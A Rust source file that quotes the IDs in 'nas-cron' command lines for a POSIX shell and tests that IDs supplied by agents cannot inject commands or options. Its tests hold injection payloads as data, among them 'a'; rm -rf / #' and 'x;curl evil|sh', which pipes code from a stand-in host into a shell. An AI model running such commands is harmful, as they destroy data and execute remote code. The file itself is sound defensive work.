//! Commands in texts for operators, who paste them into a shell. Agents and portals choose the IDs in them.

use std::fmt;

/// Beginning of every command.
const PROGRAM: &str = "nas-cron";

/// A command of `nas-cron`. Its display is quoted for a POSIX shell, and no ID in it can be taken for an option.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CommandLine {
    words: Vec<String>,
    /// The positional IDs, which come last.
    ids: Vec<String>,
}

impl CommandLine {
    /// A command of these words, which are separated by blanks and are not foreign: `jobs list --parked`.
    pub fn new(words: &str) -> Self {
        Self { words: words.split_whitespace().map(str::to_owned).collect(), ids: Vec::new() }
    }

    /// Adds an option with a value, such as `--instance agent-1`.
    #[must_use]
    pub fn option(mut self, name: &str, value: &str) -> Self {
        if value.starts_with('-') {
            self.words.push(format!("{name}={value}"));
        } else {
            self.words.extend([name.to_owned(), value.to_owned()]);
        }
        self
    }

    /// Adds an option without a value.
    #[must_use]
    pub fn flag(mut self, name: &str) -> Self {
        self.words.push(name.to_owned());
        self
    }

    /// Adds positional IDs.
    #[must_use]
    pub fn of<'a>(mut self, ids: impl IntoIterator<Item = &'a str>) -> Self {
        self.ids.extend(ids.into_iter().map(str::to_owned));
        self
    }
}

impl fmt::Display for CommandLine {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(PROGRAM)?;
        // Without it, an ID that begins with a dash would be an option.
        let end = self.ids.iter().any(|id| id.starts_with('-')).then(|| "--".to_owned());
        for word in self.words.iter().chain(&end).chain(&self.ids) {
            write!(f, " {}", quoted(word))?;
        }
        Ok(())
    }
}

/// Returns a word as a POSIX shell reads it.
fn quoted(word: &str) -> String {
    let is_plain = !word.is_empty() && word.chars().all(is_plain);
    if is_plain { word.to_owned() } else { format!("'{}'", word.replace('\'', r"'\''")) }
}

const fn is_plain(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | ',' | '=' | '@' | '+' | '%')
}

/// Returns the length in bytes of the command that a text begins with and that a backtick ends. `None` if the text begins with
/// anything else, or with anything that a shell would not read as the words of one command.
pub fn command_before_backtick(text: &str) -> Option<usize> {
    text.strip_prefix(PROGRAM).filter(|rest| rest.starts_with(' '))?;
    let (mut chars, mut is_quoted) = (text.char_indices(), false);
    while let Some((at, c)) = chars.next() {
        match c {
            '\'' => is_quoted = !is_quoted,
            _ if is_quoted => {}
            '`' => return Some(at),
            // A quotation mark within quotation marks, as `quoted` writes it.
            '\\' if text[at..].starts_with(r"\'") => drop(chars.next()),
            c if c == ' ' || is_plain(c) => {}
            _ => return None,
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Returns the words of a command, as a shell reads them.
    fn words(command: &CommandLine) -> Vec<String> {
        let shell = format!("printf '%s\\n' {command}");
        let output = std::process::Command::new("sh").args(["-c", &shell]).output().unwrap();
        std::str::from_utf8(&output.stdout).unwrap().lines().map(str::to_owned).collect()
    }

    #[test]
    fn ids_of_agents_reach_a_shell_as_one_word() {
        let ids = ["a'; rm -rf / #", "$(x)", "", "a`;x`", "x;curl evil|sh", "é~"];
        let command = CommandLine::new("jobs fire").of(ids);
        assert_eq!(words(&command), [["nas-cron", "jobs", "fire"].as_slice(), &ids].concat());
        let command = CommandLine::new("hold").option("--instance", "a b").flag("--json");
        assert_eq!(command.to_string(), "nas-cron hold --instance 'a b' --json");
    }

    #[test]
    fn ids_are_never_options() {
        let command = CommandLine::new("jobs redrive").of(["agent-1", "--include-stuck"]);
        assert_eq!(command.to_string(), "nas-cron jobs redrive -- agent-1 --include-stuck");
        let command = CommandLine::new("release").option("--instance", "-a").option("--job", "--all x");
        assert_eq!(command.to_string(), "nas-cron release --instance=-a '--job=--all x'");
    }

    #[test]
    fn only_one_command_with_quoted_ids_is_found_in_a_text() {
        let hostile = CommandLine::new("jobs show").of(["a`;x`", "it's \\ `"]).to_string();
        assert_eq!(command_before_backtick(&format!("{hostile}` ends that, `x`")), Some(hostile.len()));
        for text in [
            "nas-cron status",
            "nas-cron jobs show x;curl evil|sh`",
            "nas-cron jobs show $HOME`",
            "nas-cron jobs show 'x`",
            "nas-cron jobs show \\;x`",
            "nas-cron status\nx`",
            "nas-cron-agent x`",
            "sh x`",
            "",
        ] {
            assert_eq!(command_before_backtick(text), None, "{text}");
        }
    }
}
